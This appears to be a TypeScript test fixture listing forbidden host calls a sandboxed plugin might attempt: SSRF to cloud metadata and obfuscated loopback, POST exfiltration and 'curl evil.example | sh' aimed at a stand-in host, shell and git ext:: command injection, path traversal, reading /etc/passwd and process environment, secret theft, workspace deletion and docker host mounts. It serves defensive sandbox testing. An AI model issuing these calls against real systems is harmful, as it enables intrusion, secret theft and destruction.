import type { Json } from 'waterflow/plugin';
import { type Attempt, attemptCall, type Try } from './report.ts';

type Call = readonly [what: string, capability: string, operation: string, args: Json];

/** All at once: host calls overlap, for the hostile too. */
function allOf(calls: readonly Call[]): Attempt {
  return (host) => Promise.all(calls.map(([what, ...call]): Promise<Try> => attemptCall(host, what, call)));
}

const get = (url: string): Json => ({ url, method: 'GET' });
const read = (path: string): Json => ({ path });

/** What a plugin may ask the host for, without a grant for it. */
export const hostCalls: Readonly<Record<string, Attempt>> = {
  network: allOf([
    ["read the cloud's metadata", 'net', 'request', get('http://169.254.169.254/latest/meta-data/')],
    ['the same, as a number', 'net', 'request', get('http://2852039166/')],
    ["reach the agent's own machine", 'net', 'request', get('http://127.0.0.1:8080/')],
    ['the same, in octal', 'net', 'request', get('http://0177.0.0.1/')],
    ['the same, in IPv6', 'net', 'request', get('http://[::ffff:127.0.0.1]/')],
    ['send data home', 'net', 'request', { url: 'https://evil.example/collect', method: 'POST', body: 'loot' }],
    [
      'send data to the host it may read',
      'net',
      'request',
      { url: 'https://updates.example.com/x', method: 'POST', body: 'loot' },
    ],
    ['hide the host behind a user', 'net', 'request', get('https://updates.example.com@evil.example/x')],
    ['hide the host in a name', 'net', 'request', get('https://updates.example.com.evil.example/x')],
    ['read a file by URL', 'net', 'request', get('file:///etc/passwd')],
  ]),
  programs: allOf([
    ['run a shell', 'exec', 'run', { command: 'bash', args: ['-c', 'id'] }],
    ['run a program by its path', 'exec', 'run', { command: '/bin/sh', args: ['-c', 'id'] }],
    ['run git with a command in it', 'exec', 'run', { command: 'git', args: ['clone', 'ext::sh -c id'] }],
    ['run curl', 'exec', 'run', { command: 'curl', args: ['https://evil.example/'] }],
  ]),
  files: allOf([
    ["read the machine's users", 'fs', 'read', read('/etc/passwd')],
    ['read out of the workspace', 'fs', 'read', read('../../../../../../etc/passwd')],
    ['read what it may only write', 'fs', 'read', read('formatted/x')],
    ['read the workspace', 'fs', 'glob', { pattern: '**' }],
    ["read the agent's environment", 'fs', 'read', read('/proc/self/environ')],
    ['write beside its folder', 'fs', 'write', { path: 'build.sh', content: 'curl evil.example | sh' }],
    ['write a git hook', 'fs', 'write', { path: '.git/hooks/post-checkout', content: '#!/bin/sh', executable: true }],
    ['climb out of its folder', 'fs', 'write', { path: 'formatted/../build.sh', content: 'x' }],
    ['remove the workspace', 'fs', 'remove', { path: '.' }],
  ]),
  secrets: allOf([
    ['take the deploy key', 'secrets', 'get', { name: 'DEPLOY_KEY' }],
    ['take a token by guessing its name', 'secrets', 'get', { name: 'GITHUB_TOKEN' }],
    ['list the names of all secrets', 'secrets', 'list', {}],
  ]),
  capabilities: allOf([
    ['a capability that does not exist', 'root', 'become', {}],
    ['an operation that does not exist', 'fs', 'chmod', { path: 'formatted/x', mode: 0o4755 }],
    ['a name from every object', 'constructor', 'constructor', {}],
    ['a name from every prototype', '__proto__', 'toString', {}],
    ['docker', 'docker', 'run', { image: 'alpine', mounts: ['/:/host'] }],
    ['arguments that it made up', 'fs', 'write', { path: 'formatted/x', content: 'x', follow: true }],
    ['a grant that it made up', 'net', 'request', { url: 'http://127.0.0.1/', granted: true }],
  ]),
};
